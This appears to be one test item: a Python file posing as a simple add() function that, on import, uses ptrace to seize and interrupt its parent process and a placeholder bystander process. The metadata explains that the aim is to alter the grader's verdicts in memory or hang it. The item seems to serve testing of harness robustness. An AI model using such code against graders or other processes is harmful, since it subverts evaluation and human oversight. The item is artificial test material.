#: title = "Attaches to its parent as a debugger"
#: why = "A debugger may change every verdict in memory, or just hold the process for ever."
#: answer = "either"
#: ends = ["any"]
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for victim in (os.getppid(), @BYSTANDER@):
    if victim > 1:
        libc.ptrace(0x4206, victim, None, None)
        libc.ptrace(0x4207, victim, None, None)
        libc.ptrace(16, victim, None, None)


def add(a, b):
    return a + b
